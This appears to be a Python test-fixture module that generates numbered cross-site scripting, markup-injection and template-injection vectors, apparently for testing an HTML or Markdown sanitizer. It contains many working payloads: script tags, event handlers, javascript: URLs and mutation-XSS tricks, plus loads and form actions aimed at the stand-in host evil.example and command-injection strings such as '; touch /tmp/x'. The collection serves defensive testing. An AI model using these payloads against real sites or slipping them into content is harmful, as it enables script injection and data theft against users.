"""Texts that try to run, to fetch or to break out, from the published classes of attack.

`HIT` in each becomes a call that tells which one it was.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import Final

HOST: Final = "evil.example"
"""Whom nothing may ask for anything."""

SCRIPTS: Final = (
    "<script>HIT</script>", "<SCRIPT>HIT</SCRIPT>", "<script >HIT</script >", "<script/x>HIT</script>", "<script\n>HIT</script\n>", "<script\t>HIT</script>", "<script\x0c>HIT</script>", "<<script>HIT//<</script>",
    "<scr<script>ipt>HIT</scr</script>ipt>", "<script src=//evil.example/x.js></script>", "<script src=https://evil.example/x.js>", "<script type=module>HIT</script>", "<script>HIT", "</script><script>HIT</script>",
    "<script><!--\nHIT\n//--></script>", "<script src='data:text/javascript,HIT'></script>", "<script async src=//evil.example></script>", "<script type=text/vbscript>HIT</script>", "<svg><script>HIT</script></svg>",
    "<svg><script href='data:,HIT'/></svg>", "<math><script>HIT</script></math>", "%3Cscript%3EHIT%3C/script%3E", "&lt;script&gt;HIT&lt;/script&gt;", "&#60;script&#62;HIT&#60;/script&#62;", "&#x3c;script&#x3e;HIT&#x3c;/script&#x3e;",
    "\\<script>HIT\\</script>", "\uff1cscript\uff1eHIT\uff1c/script\uff1e", "<\x00script>HIT</script>", "<script\u2028>HIT</script>", "<noscript><script>HIT</script></noscript>", "<template><script>HIT</script></template>",
    "<link rel=import href='data:text/html,<script>HIT</script>'>", "<link rel=modulepreload href=//evil.example/x.js>", "<script nomodule>HIT</script>", "<object><script>HIT</script></object>", "`<script>HIT</script>", "~~<script>HIT</script>~~",
)  # fmt: skip
HANDLERS: Final = tuple(
    f"<{element} {handler}={quote}HIT{quote}>x</{element.split()[0]}>"
    for (element, handler), quote in product(
        (
            ("img src=x", "onerror"), ("img/src=x", "onerror"), ("img src=x alt=x ", "OnErRoR"), ("svg", "onload"), ("svg/", "onload"), ("body", "onload"), ("body", "onpageshow"), ("iframe", "onload"), ("details open", "ontoggle"),
            ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("video src=x", "onerror"), ("video><source", "onerror"), ("audio src=x", "onerror"), ("marquee", "onstart"),
            ("a href=# autofocus tabindex=0", "onfocus"), ("div tabindex=0 autofocus", "onfocus"), ("p", "onmouseover"), ("b", "onclick"), ("object data=x", "onerror"), ("embed src=x", "onload"), ("style", "onload"), ("link rel=stylesheet href=x", "onerror"),
            ("button popovertarget=x", "onclick"), ("div contenteditable", "oninput"), ("td", "onpointerenter"), ("math", "onmouseover"), ("xss", "onmouseover"), ("custom-element", "onfocus"), ("dialog open", "onclose"), ("span style=animation-name:x", "onanimationstart"),
        ),
        ("", "'", '"'),
    )
)  # fmt: skip
ADDRESSES: Final = (
    "javascript:HIT", "JaVaScRiPt:HIT", " javascript:HIT", "\tjavascript:HIT", "java\tscript:HIT", "java&#9;script:HIT", "java&#10;script:HIT", "java&NewLine;script:HIT", "java&Tab;script:HIT", "javascript&colon;HIT", "&#106;avascript:HIT",
    "&#x6A;avascript:HIT", "&#0000106avascript:HIT", "%6Aavascript:HIT", "javascript%3AHIT", "\x01javascript:HIT", "\u00a0javascript:HIT", "\u2028javascript:HIT", "javascript://evil.example/%0AHIT", "javascript:/*x*/HIT", "jav\u0000ascript:HIT",
    "vbscript:HIT", "livescript:HIT", "data:text/html,<script>HIT</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoMCk8L3NjcmlwdD4=", "DATA:text/html,x", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HIT'/>",
    "blob:https://evil.example/x", "file:///etc/passwd", "view-source:javascript:HIT", "feed:javascript:HIT", "//evil.example/x", "///evil.example/x", "\\\\evil.example\\x", "https:evil.example", "http://evil.example\\@localhost/", "x:HIT", "about:blank", "filesystem:x",
)  # fmt: skip
AROUND: Final = (
    "[x](ADDRESS)",
    "[x](<ADDRESS>)",
    "![x](ADDRESS)",
    "<ADDRESS>",
    "[x]: ADDRESS\n\n[x]",
    '<a href="ADDRESS">x</a>',
    "<a href=ADDRESS>x</a>",
    '<img src="ADDRESS" alt="x">',
    '<iframe src="ADDRESS"></iframe>',
    '<form action="ADDRESS"><button>x</button></form>',
)
ALSO_AROUND: Final = (
    '<svg><a xlink:href="javascript:HIT"><text y=20>x</text></a></svg>', '<math href="javascript:HIT">x</math>', '<button formaction="javascript:HIT">x</button>', '<input type=image src=x formaction="javascript:HIT">', '<object data="javascript:HIT"></object>',
    '<embed src="javascript:HIT">', '<area href="javascript:HIT">', '<map name=x><area shape=rect coords=0,0,99,99 href="javascript:HIT"></map><img usemap=#x>', '<blockquote cite="javascript:HIT">x</blockquote>', '<del cite="javascript:HIT">x</del>',
    '<a ping="https://evil.example/" href="https://example.org/">x</a>', '<img srcset="//evil.example/x.png 1x">', '<img src=x lowsrc="//evil.example/">', '<picture><source srcset="//evil.example/x"><img></picture>', '<video poster="//evil.example/x"></video>',
    '<audio src="//evil.example/x" autoplay></audio>', '<track src="//evil.example/x">', '<body background="//evil.example/x">', '<table background="//evil.example/x"><td>x</table>', '<link rel="dns-prefetch" href="//evil.example">', '<link rel=preload as=image href=//evil.example/x>',
    '<link rel=icon href=//evil.example/x>', '<link rel=manifest href=//evil.example/x>', '<svg><image href="//evil.example/x"/></svg>', '<svg><use href="//evil.example/x#y"/></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=HIT>#x"/></svg>', '<svg><animate onbegin=HIT attributeName=x dur=1s>',
    '<svg><a><animate attributeName=href values=javascript:HIT /><text y=20>x</text></a></svg>', '<svg><set attributeName=onmouseover to=HIT>', '<svg><foreignObject><iframe srcdoc="<script>parent.HIT</script>"></iframe></foreignObject></svg>', '<svg><feImage href="//evil.example/x"/></svg>',
)  # fmt: skip
MUTATIONS: Final = (
    "<math><mtext><table><mglyph><style><img src=x onerror=HIT></style></mglyph></table></mtext></math>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=HIT&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=HIT>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=HIT>", "<svg><style><img src=x onerror=HIT></style></svg>", "<noscript><p title=\"</noscript><img src=x onerror=HIT>\">",
    "<template><p title=\"</template><img src=x onerror=HIT>\">", "<textarea><p title=\"</textarea><img src=x onerror=HIT>\">", "<title><p title=\"</title><img src=x onerror=HIT>\">", "<xmp><p title=\"</xmp><img src=x onerror=HIT>\">", "<style><p title=\"</style><img src=x onerror=HIT>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=HIT>\">", "<noembed><p title=\"</noembed><img src=x onerror=HIT>\">", "<noframes><p title=\"</noframes><img src=x onerror=HIT>\">", "<plaintext><p title=\"</plaintext><img src=x onerror=HIT>\">", "<select><option><style></option></select><img src=x onerror=HIT></style>",
    "<svg><title><p title=\"</title></svg><img src=x onerror=HIT>\">", "<svg><desc><table><mglyph><style><img src=x onerror=HIT>", (
"<math><annotation-xml encoding=\"text/html\"><style><img src=x "
"onerror=HIT></style></annotation-xml></math>"
), "<math><mi><svg><style><img src=x onerror=HIT></style></svg></mi></math>",
    "<iframe srcdoc=\"<script>parent.HIT</script>\"></iframe>", "<iframe srcdoc='&lt;script&gt;parent.HIT&lt;/script&gt;'></iframe>", "<table><td><svg><p><img src=x onerror=HIT>", "<b><p><table><a href=x></b><img src=x onerror=HIT>", "<a href=x><table><a href='javascript:HIT'>y</a></table></a>",
    "<listing>&lt;img src=x onerror=HIT&gt;</listing>", "<pre>&lt;img src=x onerror=HIT&gt;</pre>", "<code>&lt;/code&gt;&lt;img src=x onerror=HIT&gt;</code>", "<image src=x onerror=HIT>", "<isindex type=image src=x onerror=HIT>", "<keygen autofocus onfocus=HIT>", "<frameset onload=HIT><frame src=x></frameset>",
    "<p id=\"&quot;&gt;&lt;img src=x onerror=HIT&gt;\">x</p>", "<p title='`<img src=x onerror=HIT>`'>x</p>", "<p lang='\"><img src=x onerror=HIT>'>x</p>", "<ol start='1\"><img src=x onerror=HIT>'><li>x</ol>", "<a id='\" autofocus onfocus=HIT x=\"'>x</a>", "<!--><img src=x onerror=HIT>-->", "<!---><img src=x onerror=HIT>-->",
    "<!--!><img src=x onerror=HIT>", "<!-- --!><img src=x onerror=HIT>-->", "<![CDATA[><img src=x onerror=HIT>]]>", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=HIT>'>]>&y;", "<?xml version='1.0'?><img src=x onerror=HIT>", "<? ><img src=x onerror=HIT>", "<!x ><img src=x onerror=HIT>", "</ ><img src=x onerror=HIT>", "</x title='><img src=x onerror=HIT>'>",
)  # fmt: skip
LOOKS: Final = (
    "<style>@import '//evil.example/x.css';</style>", "<style>body{background:url(//evil.example/x)}</style>", "<style>*{x:expression(HIT)}</style>", "<p style='background:url(//evil.example/x)'>x</p>", "<p style=\"x:expression(HIT)\">x</p>", "<p style='behavior:url(//evil.example/x.htc)'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>", "<style>@font-face{font-family:x;src:url(//evil.example/x)}body{font-family:x}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel='stylesheet' href='data:text/css,@import \"//evil.example\"'>", "<p class='enquiry-overlay'>x</p>", "<font style='x' color=red>x</font>",
    "{:style=\"background:url(//evil.example/x)\"}", "{:onclick=\"HIT\"}", "x {: #id onmouseover=\"HIT\"}", "{::nomarkdown}<script>HIT</script>{:/}",
)  # fmt: skip
DOCUMENT: Final = (
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<meta http-equiv=refresh content='0;url=javascript:HIT'>", "<meta http-equiv=Set-Cookie content=x>", "<meta charset=utf-7>+ADw-script+AD4-HIT+ADw-/script+AD4-", "<base href=//evil.example/>", "<base target=_blank>", "<form action=//evil.example/><input name=x><button>x</button></form>",
    "<form id=x></form><button form=x formaction=//evil.example/>x</button>", "<p id=body>x</p>", "<a id=document name=location>x</a>", "<img name=currentScript alt=x>", "<form name=body><input name=firstChild></form>", "<p id=__proto__>x</p>", "<a id=defaultView name=cookie>x</a>", "<img name=getElementById alt=x>", "<img name=querySelector alt=x>",
    "<iframe name=self></iframe>", "<object name=forms></object>", "<embed name=addEventListener>", "</body></html><script>HIT</script>", "</main></article><script>HIT</script>", "</title><script>HIT</script>", "</textarea><script>HIT</script>", "]]><script>HIT</script>", "--><script>HIT</script>", "</style><script>HIT</script>",
    "</content></entry><entry><script xmlns='http://www.w3.org/1999/xhtml'>HIT</script></entry>", "<x xmlns='http://www.w3.org/1999/xhtml'><script>HIT</script></x>", "<?xml-stylesheet href='//evil.example/x.xsl'?>", "\",\"content_html\":\"<script>HIT</script>", "');HIT;//", "\";HIT;//", "</script><script>HIT</script>", "\\u003cscript\\u003eHIT\\u003c/script\\u003e",
)  # fmt: skip
QUOTES: Final = (
    "\"><script>HIT</script>", "'><script>HIT</script>", "\" autofocus onfocus=\"HIT", "' autofocus onfocus='HIT", "\" onmouseover=HIT x=\"", "`onmouseover=HIT", "\"/><img src=x onerror=HIT>", "\\\"><img src=x onerror=HIT>", "&quot;><img src=x onerror=HIT>", "&#34; onfocus=HIT autofocus x=&#34;", "x\" srcset=\"//evil.example/x 1x", "x' style='background:url(//evil.example)",
    "\u2028\"><img src=x onerror=HIT>", "\u201d><img src=x onerror=HIT>", "\"\n><img src=x onerror=HIT>",
)  # fmt: skip
MARKDOWN: Final = (
    "[x](https://example.org/ \"\\\" onmouseover=HIT x=\\\"\")", "[x](https://example.org/ '\" onmouseover=HIT x=\"')", "![\"onerror=HIT x=\"](x.png)", "![x](x.png '\" onerror=HIT')", "![x\"](javascript:HIT\"onerror=HIT)", "[a **b](javascript:HIT) c**", "[*a [b](javascript:HIT)*](x)", "[![x](javascript:HIT)](javascript:HIT)", "*[x*](javascript:HIT)",
    "[x][y]\n\n[y]: <javascript:HIT>", "[y]\n\n[y]: javascript:HIT \"x\"", "[x]: data:text/html,x\n[x]", "[x](javascript\\:HIT)", "[x](\\javascript:HIT)", "[x](j&#97;vascript:HIT)", "[x](javascript:HIT 'x')", "[x](  javascript:HIT  )", "<javascript:HIT>", "<javascript&#58;HIT>", "<https://example.org/\"onmouseover=\"HIT>", "<a@b.c\"onclick=HIT>",
    "`\"><script>HIT</script>`", "```\"><script>HIT</script>\nx\n```", "```html\n<script>HIT</script>\n```", "    <script>HIT</script>", "> <script>HIT</script>", "- <img src=x onerror=HIT>", "| <img src=x onerror=HIT> |\n| - |\n| <script>HIT</script> |", "[^1]\n\n[^1]: <script>HIT</script>", "[^\"><img src=x onerror=HIT>]\n\n[^\"><img src=x onerror=HIT>]: x",
    "# <img src=x onerror=HIT>", "# \"><script>HIT</script>", "<script>\n\nHIT\n\n</script>", "<div\n\nonclick=HIT>x</div>", "<a href=\"x\n\nonclick=HIT\">x</a>", "<!-- [x](javascript:HIT) -->", "[x](#\"onclick=HIT)", "[x](?\"><script>HIT</script>)", "![x](\"onerror=HIT)", "- [ ] <input autofocus onfocus=HIT>", "\ufdd00\ufdd1<img src=x onerror=HIT>\ufdd0/0\ufdd1",
    "&#xfdd0;0&#xfdd1;\ufdd2<script>HIT</script>", "\ufffe\uffff<script>HIT</script>", "\u202e>tpircs<HIT", "\ufeff<script>HIT</script>", "www.example.org\"onclick=HIT",
)  # fmt: skip
TEMPLATES: Final = (
    "{{ 7 * 7 }}zq49", "{{ view }}", "{{ ''.__class__.__mro__ }}", "{% for x in range(9) %}HIT{% endfor %}", "{% include '/etc/passwd' %}", "{{ lipsum.__globals__ }}", "{{ html('<script>HIT</script>') }}", "{{ '<script>HIT</script>'|safe }}", "{# x #}", "{%raw%}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('HIT')()}}", "{{< script >}}", "{% endblock %}<script>HIT</script>", "%(x)s %s %n", "{0} {x.__class__}", "!!python/object/apply:os.system [x]", "!!python/name:os.system", "<%-HIT%>", "<?php HIT ?>", "<!--#exec cmd=\"x\" -->", "$(touch /tmp/x)", "`touch /tmp/x`", "; touch /tmp/x", "=HYPERLINK(\"//evil.example\")",
)  # fmt: skip


def vectors() -> Iterator[str]:
    """Every vector, each with its own number in place of `HIT`."""
    addressed = (around.replace("ADDRESS", address) for around, address in product(AROUND, ADDRESSES))
    every = (
        *SCRIPTS,
        *HANDLERS,
        *addressed,
        *ALSO_AROUND,
        *MUTATIONS,
        *LOOKS,
        *DOCUMENT,
        *QUOTES,
        *MARKDOWN,
        *TEMPLATES,
    )
    for number, vector in enumerate(every):
        yield vector.replace("HIT", f"hit({number})")
